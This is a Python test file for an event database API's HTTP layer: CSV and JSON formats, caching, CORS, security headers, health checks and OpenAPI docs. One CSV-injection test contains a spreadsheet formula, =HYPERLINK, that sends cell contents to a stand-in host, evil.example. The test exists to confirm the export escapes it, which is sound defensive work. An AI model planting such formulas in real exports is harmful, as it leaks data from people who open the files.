"""HTTP around the data: formats, caching, CORS, security headers, health, docs and OpenAPI."""

import asyncio
import csv
import gc
import io
import shutil
from pathlib import Path

import httpx
import orjson
import pytest
import yaml
from sqlalchemy import update

from api.database import create_db_engine
from api.loader import load, seed_files
from api.main import create_app
from api.models import StoredDocumentShape, table_of
from api.query_string import LIST_PARAMETERS, TIDIED_UP_TO
from api.schema_version import head_revision, upgrade
from api.settings import PROJECT_ROOT, Settings
from tests.conftest import LiveServer


def test_json_is_indented_for_reading_in_a_terminal(client: httpx.Client) -> None:
    response = client.get("/proposals")
    assert response.headers["content-type"] == "application/json"
    assert response.text.startswith('{\n  "total"')
    assert response.text.endswith("\n")


@pytest.mark.parametrize(
    "url",
    ["/statements", "/events?limit=5", "/timeline?actor=hamas", "/events/unsc-vote", "/positions"],
)
def test_an_answer_is_written_as_its_json_parsed_and_written_again(
    client: httpx.Client, url: str
) -> None:
    """Stored documents are copied into answers as text, at another depth: the bytes must be
    those of the answer's own JSON, written whole."""
    response = client.get(url)
    assert response.status_code == 200
    rewritten = orjson.dumps(response.json(), option=orjson.OPT_INDENT_2) + b"\n"
    assert response.content == rewritten


def test_csv_has_one_row_per_item_with_flattened_columns(client: httpx.Client) -> None:
    response = client.get("/statements.csv", params={"limit": 500})
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    items = client.get("/statements", params={"limit": 500}).json()["items"]
    assert len(rows) == len(items)
    assert rows[0]["speaker.slug"] == items[0]["speaker"]["slug"]
    assert rows[0]["evidence.text"] == items[0]["evidence"]["text"]
    assert rows[0]["evidence.sentence.text"] == items[0]["evidence"]["sentence"]["text"]
    assert rows[0]["date.start"] == (items[0]["date"]["start"] or "")


def test_csv_takes_the_same_filters_as_json(client: httpx.Client) -> None:
    params: dict[str, str | int] = {"speaker": "blinken", "limit": 500}
    text = client.get("/statements.csv", params=params).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    items = client.get("/statements", params=params).json()["items"]
    assert [int(r["id"]) for r in rows] == [i["id"] for i in items]
    assert {r["speaker.slug"] for r in rows} == {"antony-blinken"}


def test_csv_starts_with_a_bom_so_a_spreadsheet_reads_it_as_utf8(client: httpx.Client) -> None:
    body = client.get("/statements.csv", params={"limit": 500}).content
    assert body.startswith("\ufeff".encode())
    assert "“".encode() in body  # curly quotes, as UTF-8


def test_the_json_paths_answer_json_whatever_the_accept_header(client: httpx.Client) -> None:
    response = client.get("/statements", headers={"Accept": "text/csv"})
    assert response.headers["content-type"] == "application/json"


def test_format_is_not_a_parameter_and_says_where_the_csv_is(client: httpx.Client) -> None:
    response = client.get("/statements", params={"format": "csv"})
    assert response.status_code == 400
    assert "/statements.csv" in response.json()["detail"]


def test_an_unchanged_response_answers_304_to_if_none_match(client: httpx.Client) -> None:
    first = client.get("/actors/antony-blinken")
    assert first.headers["cache-control"].startswith("public")
    again = client.get("/actors/antony-blinken", headers={"If-None-Match": first.headers["etag"]})
    assert again.status_code == 304
    assert again.content == b""
    other = client.get("/actors/hamas", headers={"If-None-Match": first.headers["etag"]})
    assert other.status_code == 200


def test_cors_lets_a_browser_on_another_origin_read_the_api(client: httpx.Client) -> None:
    response = client.get("/statements", headers={"Origin": "https://example.org"})
    assert response.headers["access-control-allow-origin"] in ("*", "https://example.org")
    exposed = {h.strip() for h in response.headers["access-control-expose-headers"].split(",")}
    # What a browser app needs to read: the next page, revalidation, a CSV's file name, when to
    # retry, and where a name redirects to.
    assert {"Link", "ETag", "Content-Disposition", "Retry-After", "Location"} <= exposed
    preflight = client.options(
        "/statements",
        headers={"Origin": "https://example.org", "Access-Control-Request-Method": "GET"},
    )
    assert preflight.status_code == 200


def test_an_empty_value_asks_for_everything(client: httpx.Client) -> None:
    everything = client.get("/statements", params={"limit": 500}).json()["items"]
    cleared = client.get("/statements?q=&speaker=&limit=500").json()["items"]
    assert cleared == everything


@pytest.mark.parametrize("tag", ["_=1700000000", "utm_source=newsletter", "utm_campaign=x"])
def test_cache_busters_and_campaign_tags_are_ignored(client: httpx.Client, tag: str) -> None:
    plain = client.get("/statements?speaker=blinken")
    tagged = client.get(f"/statements?speaker=blinken&{tag}")
    assert tagged.status_code == 200
    assert tagged.json()["items"] == plain.json()["items"]


def test_every_response_carries_security_headers(client: httpx.Client) -> None:
    for response in (client.get("/statements"), client.get("/nowhere")):
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["x-frame-options"] == "DENY"


def test_healthz_answers_while_the_process_is_up(client: httpx.Client) -> None:
    assert client.get("/healthz").json() == {"status": "ok", "revision": None}


def test_readyz_answers_when_the_schema_is_at_the_latest_migration(client: httpx.Client) -> None:
    body = client.get("/readyz").json()
    assert body["status"] == "ready"
    assert body["revision"] == head_revision()


def test_readyz_answers_503_while_the_stored_documents_are_of_another_shape(
    database_url: str,
) -> None:
    """Documents stored by another version (or a schema migrated without `eventdb migrate`)
    are not this version's answers: not ready until `eventdb migrate` rewrites them."""
    engine = create_db_engine(database_url)
    upgrade(engine)
    load(engine, seed_files(PROJECT_ROOT / "seed"))
    with engine.begin() as connection:
        connection.execute(update(table_of(StoredDocumentShape)).values(shape="an older shape"))
    with (
        LiveServer(Settings(database_url=database_url)) as server,
        httpx.Client(base_url=server.url) as http,
    ):
        stale = http.get("/readyz")
        assert stale.status_code == 503
        assert "run `eventdb migrate`" in stale.json()["detail"]
        upgrade(engine)
        assert http.get("/readyz").status_code == 200
    engine.dispose()


def test_the_docs_page_loads_its_assets_from_the_api_itself(client: httpx.Client) -> None:
    """/docs (Swagger UI 5) and /redoc (ReDoc), from fastapi-offline: nothing from a CDN."""
    assets = {
        "/docs": ["swagger-ui-bundle.js", "swagger-ui.css", "favicon.png"],
        "/redoc": ["redoc.standalone.js", "favicon.png"],
    }
    for path, files in assets.items():
        page = client.get(path)
        assert page.status_code == 200
        assert "cdn" not in page.text.lower() and "https://" not in page.text, path
        for name in files:
            assert f'"/static/swagger/{name}"' in page.text, (path, name)
            assert client.get(f"/static/swagger/{name}").status_code == 200, name
    # ReDoc's bundle is served without its one CDN URL (the logo beside "API docs by Redocly").
    redoc = client.get("/static/swagger/redoc.standalone.js")
    assert redoc.headers["content-type"].startswith("text/javascript")
    assert "cdn.redoc.ly" not in redoc.text and "Redocly" in redoc.text


def test_openapi_describes_every_parameter_with_an_example(client: httpx.Client) -> None:
    spec = client.get("/openapi.json").json()
    assert spec["openapi"].startswith("3.1")
    missing = [
        f"{method.upper()} {path} {parameter['name']}"
        for path, operations in spec["paths"].items()
        for method, operation in operations.items()
        for parameter in operation.get("parameters", [])
        if not parameter.get("description")
        or not (
            parameter.get("example") is not None
            or parameter.get("examples")
            or parameter["schema"].get("examples")
        )
    ]
    assert missing == []


def test_the_parameters_split_at_commas_are_those_the_schema_says_take_several_values(
    client: httpx.Client,
) -> None:
    spec = client.get("/openapi.json").json()
    several = {
        parameter["name"]
        for operations in spec["paths"].values()
        for operation in operations.values()
        for parameter in operation.get("parameters", [])
        if parameter["in"] == "query" and parameter["schema"].get("type") == "array"
    }
    assert several == LIST_PARAMETERS


def test_values_are_tidied_only_up_to_the_shortest_length_limit_of_the_schema(
    client: httpx.Client,
) -> None:
    """Trimming a longer value could make one the schema refuses pass (api.query_string)."""
    spec = client.get("/openapi.json").json()
    schemas = [
        parameter["schema"]
        for operations in spec["paths"].values()
        for operation in operations.values()
        for parameter in operation.get("parameters", [])
    ]
    limits = [
        choice["maxLength"]
        for schema in schemas
        for option in [schema, *schema.get("anyOf", [])]
        for choice in [option, option.get("items", {})]
        if "maxLength" in choice
    ]
    assert min(limits) == TIDIED_UP_TO


def test_openapi_documents_problem_json_errors_and_csv(client: httpx.Client) -> None:
    paths = client.get("/openapi.json").json()["paths"]
    operation = paths["/statements"]["get"]
    assert "application/problem+json" in operation["responses"]["422"]["content"]
    assert list(operation["responses"]["200"]["content"]) == ["application/json"]
    assert list(paths["/statements.csv"]["get"]["responses"]["200"]["content"]) == ["text/csv"]


def test_head_answers_the_headers_of_get_without_a_body(client: httpx.Client) -> None:
    get = client.get("/statements?speaker=blinken")
    head = client.head("/statements?speaker=blinken")
    assert head.status_code == 200
    assert head.content == b""
    assert head.headers["content-type"] == get.headers["content-type"]
    assert head.headers["etag"] == get.headers["etag"]
    assert head.headers["content-length"] == get.headers["content-length"]


def test_csv_writes_booleans_as_true_and_false_and_names_the_file(client: httpx.Client) -> None:
    response = client.get("/statements.csv", params={"limit": 500})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert {row["anonymous"] for row in rows} == {"true", "false"}
    assert response.headers["content-disposition"] == 'attachment; filename="statements.csv"'


def test_if_none_match_star_answers_304(client: httpx.Client) -> None:
    assert client.get("/proposals", headers={"If-None-Match": "*"}).status_code == 304


def test_the_home_page_is_the_reading_room_and_leads_to_the_docs(client: httpx.Client) -> None:
    response = client.get("/", follow_redirects=False)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/html")
    assert 'href="/docs"' in response.text


def test_openapi_operation_ids_are_the_route_names(client: httpx.Client) -> None:
    paths = client.get("/openapi.json").json()["paths"]
    assert paths["/statements"]["get"]["operationId"] == "list_statements"
    assert paths["/actors/{slug}"]["get"]["operationId"] == "get_actor"


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    database_url: str, tmp_path: Path
) -> None:
    """OWASP's CSV injection: a value starting with =, +, -, @, tab or return gets a leading
    apostrophe in CSV (the JSON answer keeps the value as it is)."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    folder = tmp_path / "seed"
    shutil.copytree(PROJECT_ROOT / "tests" / "data", folder)
    path = folder / "portville-harbor.yaml"
    document = yaml.safe_load(path.read_text(encoding="utf-8"))
    document["statements"][1]["text"] = formula  # a reported claim: its text is free
    path.write_text(yaml.safe_dump(document, allow_unicode=True, sort_keys=False), "utf-8")
    engine = create_db_engine(database_url)
    upgrade(engine)
    load(engine, seed_files(folder))
    engine.dispose()
    with (
        LiveServer(Settings(database_url=database_url)) as server,
        httpx.Client(base_url=server.url) as client,
    ):
        body = client.get("/statements.csv").content.decode("utf-8-sig")
        texts = {row["slug"]: row["text"] for row in csv.DictReader(io.StringIO(body))}
        as_json = client.get("/statements/okafor-wants-toll-halved").json()["text"]
    assert texts["okafor-wants-toll-halved"] == "'" + formula
    assert as_json == formula


def test_an_answer_over_1_kb_is_gzipped_for_a_client_that_accepts_it(client: httpx.Client) -> None:
    plain = client.get("/statements?limit=20", headers={"Accept-Encoding": "identity"})
    gzipped = client.get("/statements?limit=20", headers={"Accept-Encoding": "gzip"})
    assert "content-encoding" not in plain.headers
    assert gzipped.headers["content-encoding"] == "gzip"
    assert int(gzipped.headers["content-length"]) < len(plain.content) / 4
    assert gzipped.json() == plain.json()  # httpx decompresses
    small = client.get("/healthz", headers={"Accept-Encoding": "gzip"})
    assert "content-encoding" not in small.headers


@pytest.mark.parametrize("accepted", ["identity", "gzip", "br"])
def test_an_answer_over_1_kb_says_it_varies_by_encoding_whatever_the_client_accepts(
    client: httpx.Client, accepted: str
) -> None:
    """A shared cache must not hand a gzipped answer to a client that cannot read it, nor a
    plain one where a gzipped one was asked for (api.compression)."""
    large = client.get("/statements?limit=20", headers={"Accept-Encoding": accepted})
    small = client.get("/healthz", headers={"Accept-Encoding": accepted})

    def varies_by(answer: httpx.Response) -> list[str]:
        return [name.strip() for name in answer.headers.get("vary", "").split(",")]

    assert "Accept-Encoding" in varies_by(large)
    assert "Accept-Encoding" not in varies_by(small)


def test_a_started_worker_keeps_its_own_objects_out_of_garbage_collection(tmp_path: Path) -> None:
    """A full collection walked the app's 150,000 objects (75 ms): the p99 of every question.
    Once started, a worker leaves only what its requests make for the collector to walk."""
    app = create_app(Settings(database_url=f"sqlite:///{tmp_path / 'unused.sqlite3'}"))

    async def objects_left_to_walk() -> int:
        async with app.router.lifespan_context(app):
            return len(gc.get_objects())

    gc.unfreeze()
    try:
        assert len(gc.get_objects()) > 100_000
        assert asyncio.run(objects_left_to_walk()) < 1_000
    finally:
        gc.unfreeze()
